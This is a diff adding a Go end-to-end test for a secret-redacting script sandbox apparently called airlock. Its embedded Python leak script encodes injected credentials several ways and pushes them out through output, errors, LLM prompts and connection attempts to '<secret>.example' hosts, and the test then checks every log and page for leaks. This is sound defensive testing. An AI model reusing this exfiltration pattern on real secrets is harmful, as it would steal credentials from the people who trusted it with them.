@@ -1,0 +1,263 @@
+package hostile_test
+
+import (
+	"crypto/rand"
+	"encoding/json"
+	"fmt"
+	"io"
+	mathrand "math/rand/v2"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/computclaw/airlock/cmd/airlock/internal/e2e"
+)
+
+// detector is a program that shares no code with the redactor.
+const detector = "../../../../../app/redact/proof/detect.py"
+
+// Leak attempts on the whole program: executions, each with as many values and each value in every
+// channel.
+const (
+	leakRuns   = 16
+	leakValues = 4
+)
+
+// leakScript sends each value through every channel, in the encodings that inputs name, innermost
+// first. The last value is the error.
+const leakScript = `import base64, codecs, gzip, json, socket, sys, urllib.parse
+encoders = {
+    "base64": lambda s: base64.b64encode(b"user:" + s.encode()).decode(),
+    "base64url": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
+    "base32": lambda s: base64.b32encode(s.encode()).decode(),
+    "hex": lambda s: s.encode().hex(),
+    "percent": lambda s: "".join("%%%02X" % b for b in s.encode()),
+    "json": lambda s: "".join("\\u%04x" % ord(c) for c in s),
+    "reversed": lambda s: s[::-1],
+    "rot13": lambda s: codecs.encode(s, "rot13"),
+    "gzip": lambda s: base64.b64encode(gzip.compress(s.encode())).decode(),
+    "spaced": lambda s: " ".join(s),
+}
+result, last = {}, ""
+for key, forms in inputs:
+    text = settings.get(key)
+    for form in forms:
+        text = encoders[form](text)
+    for i in range(0, len(text), 7):
+        print(text[i:i + 7], end="", flush=True)
+    print()
+    print("to stderr:", text, file=sys.stderr)
+    result[text] = [text, {"deep": [text[:len(text) // 2], text[len(text) // 2:]]}]
+    llm.complete("What is " + text + "?")
+    if len(text) < 64:  # what is longer is no name
+        try:
+            socket.create_connection((text + ".example", 443), timeout=5)
+        except (OSError, UnicodeError):
+            pass
+    last = text
+set_result(result)
+raise RuntimeError("failed with " + last)
+# typed in by hand: `
+
+// TestNothingLeaks sends random values in nested encodings through every channel of the real
+// program, and lets the detector look at every answer, page, metric, log line, crash and page of
+// the database, the write-ahead log among them.
+func TestNothingLeaks(t *testing.T) {
+	t.Parallel()
+	open := e2e.FreeAddress(t)
+	in := e2e.StartInstance(t, "AIRLOCK_POOL=1", "AIRLOCK_METRICS_ADDR="+open)
+	profile := []string{"profile", "create", "--description", "leaks"}
+	for i := range leakValues {
+		in.Admin("not-yet-"+rand.Text(), "credential", "set", fmt.Sprintf("VALUE_%d", i), "--mode", "injected")
+		profile = append(profile, "--key", fmt.Sprintf("VALUE_%d", i))
+	}
+	id := in.Admin("", profile...)
+	in.Admin("", "profile", "lock", id)
+	random := mathrand.New(mathrand.NewPCG(1, 2))
+	var all []string
+	for range leakRuns {
+		var plan []any
+		script := leakScript
+		for i := range leakValues {
+			value := rand.Text() + "-" + rand.Text()[:6]
+			all = append(all, value)
+			key := fmt.Sprintf("VALUE_%d", i)
+			in.Admin(value, "credential", "set", key)
+			plan = append(plan, []any{key, nested(random)})
+			script += value + " "
+		}
+		answerAll(in, id, script, plan)
+	}
+	pages := readPages(in)
+	if pages < leakRuns {
+		t.Errorf("only %d pages of executions were seen", pages)
+	}
+	readMonitors(in)
+	readMetrics(in, "http://"+open)
+	crash(in, id)
+	detect(in, all)
+}
+
+// crash lets the server die as from a fault of its own, while a script holds values: the stacks
+// of all its goroutines are in its log then, and the write-ahead log stays.
+func crash(in *e2e.Instance, profile string) {
+	in.T.Helper()
+	holding := in.Submit(profile, "values = [settings.get(f'VALUE_{i}') for i in range(4)]\nllm.complete('on?')",
+		time.Minute)
+	e2e.Eventually(in.T, time.Minute, "a script holds the values", func() bool {
+		var x e2e.Execution
+		return in.Call(http.MethodGet, "/executions/"+holding.ID, nil, &x) == http.StatusOK && x.Status == "awaiting_llm"
+	})
+	e2e.Must(in.T, in.Server.Process.Signal(syscall.SIGABRT))
+	_ = in.Server.Wait()
+	log, err := os.ReadFile(in.Log)
+	e2e.Must(in.T, err)
+	if !strings.Contains(string(log), "SIGABRT") || strings.Count(string(log), "goroutine ") < 10 {
+		in.T.Errorf("the server left no stacks: %.500s", log)
+	}
+}
+
+// nested names encoders, the innermost first.
+func nested(random *mathrand.Rand) []string {
+	names := []string{"base64", "base64url", "base32", "hex", "percent", "json", "reversed", "rot13", "gzip", "spaced"}
+	forms := []string{}
+	for range random.IntN(4) {
+		forms = append(forms, names[random.IntN(len(names))])
+	}
+	return forms
+}
+
+// answerAll runs a script, answers all its questions and waits for its end, which must be its own
+// error.
+func answerAll(in *e2e.Instance, profile, script string, inputs any) {
+	in.T.Helper()
+	var x struct {
+		e2e.Execution
+		Request *struct{} `json:"llm_request"`
+	}
+	if code := in.Call(http.MethodPost, "/execute",
+		map[string]any{"profile_id": profile, "script": script, "inputs": inputs}, &x); code != http.StatusAccepted {
+		in.T.Fatalf("submit: status %d", code)
+	}
+	answered := 0
+	for deadline := time.Now().Add(60 * time.Second); time.Now().Before(deadline); {
+		x.Request = nil
+		in.Call(http.MethodGet, "/executions/"+x.ID+"?wait=5", nil, &x)
+		switch {
+		case x.Terminal():
+			if x.Status != "error" || answered < leakValues { // what the error says may well be masked as a whole
+				in.T.Fatalf("the script ended as %s after %d questions: %s\n%s", x.Status, answered, x.Error, x.Stderr)
+			}
+			return
+		case x.Request != nil:
+			answered++
+			in.Call(http.MethodPost, "/executions/"+x.ID+"/respond", map[string]any{"response": "thanks"}, nil)
+		}
+	}
+	in.T.Fatal("the script has not ended")
+}
+
+// readMonitors keeps what a monitor sees, for the detector.
+func readMonitors(in *e2e.Instance) {
+	in.T.Helper()
+	for _, path := range []string{"/metrics", "/debug/pprof/", "/debug/pprof/goroutine?debug=2",
+		"/debug/pprof/heap?debug=1", "/debug/pprof/allocs?debug=1"} {
+		request, err := http.NewRequestWithContext(in.T.Context(), http.MethodGet, in.URL+path, nil)
+		e2e.Must(in.T, err)
+		request.Header.Set("Authorization", "Bearer "+e2e.SuiteToken)
+		response, err := http.DefaultClient.Do(request)
+		e2e.Must(in.T, err)
+		text, err := io.ReadAll(response.Body)
+		e2e.Must(in.T, err)
+		response.Body.Close()
+		if response.StatusCode != http.StatusOK || len(text) == 0 {
+			in.T.Errorf("%s: status %d", path, response.StatusCode)
+		}
+		in.Keep(text)
+	}
+}
+
+// readMetrics checks that a listener answers /metrics to everybody, and nothing else to anybody.
+func readMetrics(in *e2e.Instance, base string) {
+	in.T.Helper()
+	for path, want := range map[string]int{"/metrics": http.StatusOK, "/": http.StatusNotFound,
+		"/health": http.StatusNotFound, "/debug/pprof/": http.StatusNotFound, "/ui": http.StatusNotFound,
+		"/execute": http.StatusNotFound} {
+		request, err := http.NewRequestWithContext(in.T.Context(), http.MethodGet, base+path, nil)
+		e2e.Must(in.T, err)
+		request.Header.Set("Authorization", "Bearer "+e2e.SuiteToken)
+		response, err := http.DefaultClient.Do(request)
+		e2e.Must(in.T, err)
+		text, err := io.ReadAll(response.Body)
+		e2e.Must(in.T, err)
+		response.Body.Close()
+		if response.StatusCode != want ||
+			want == http.StatusOK && !strings.Contains(string(text), "airlock_executions_ended_total{") {
+			in.T.Errorf("%s on the metrics' own address: %d", path, response.StatusCode)
+		}
+		in.Keep(text)
+	}
+}
+
+// readPages keeps every page of every execution, as a person sees it, for the detector. It returns
+// how many.
+func readPages(in *e2e.Instance) int {
+	in.T.Helper()
+	person := in.Person()
+	seen := map[string]bool{}
+	queue := []string{"/ui", "/ui/executions", "/ui/profiles", "/ui/credentials", "/ui/audit", "/ui/settings"}
+	for len(queue) > 0 {
+		path := queue[0]
+		queue = queue[1:]
+		for _, link := range e2e.ExecutionLink.FindAllString(person.Get(in, path), -1) {
+			if !seen[link] {
+				seen[link] = true
+				queue = append(queue, link)
+			}
+		}
+	}
+	return len(seen)
+}
+
+// listTraces are the files of all that came out: every answer, the log, and what is in the data
+// directory.
+func listTraces(in *e2e.Instance) []string {
+	files := []string{in.Answers, in.Log}
+	data, err := filepath.Glob(filepath.Join(in.Dir, "*"))
+	e2e.Must(in.T, err)
+	for _, path := range data {
+		if info, err := os.Stat(path); err == nil && info.Mode().IsRegular() {
+			files = append(files, path)
+		}
+	}
+	return files
+}
+
+// detect lets an independent program look for secrets in every answer, the log and every page of
+// the database. The flag --whole makes it look for whole secrets only, for scripts that hand out
+// parts on purpose.
+func detect(in *e2e.Instance, secrets []string, flags ...string) {
+	in.T.Helper()
+	list := filepath.Join(in.T.TempDir(), "secrets")
+	e2e.Must(in.T, os.WriteFile(list, []byte(strings.Join(secrets, "\n")), 0o600))
+	args := slices.Concat([]string{detector}, flags, []string{list}, listTraces(in))
+	out, err := exec.Command("/usr/bin/python3", args...).CombinedOutput()
+	if err != nil {
+		in.T.Errorf("%v\n%s", err, out)
+	}
+	in.T.Logf("%s", out)
+	// The detector itself must be able to find something.
+	planted := filepath.Join(in.T.TempDir(), "planted")
+	text, err := json.Marshal(map[string]string{"a": "x" + secrets[0] + "x"})
+	e2e.Must(in.T, err)
+	e2e.Must(in.T, os.WriteFile(planted, text, 0o600))
+	if exec.Command("/usr/bin/python3", detector, list, planted).Run() == nil {
+		in.T.Error("the detector finds nothing at all")
+	}
+}
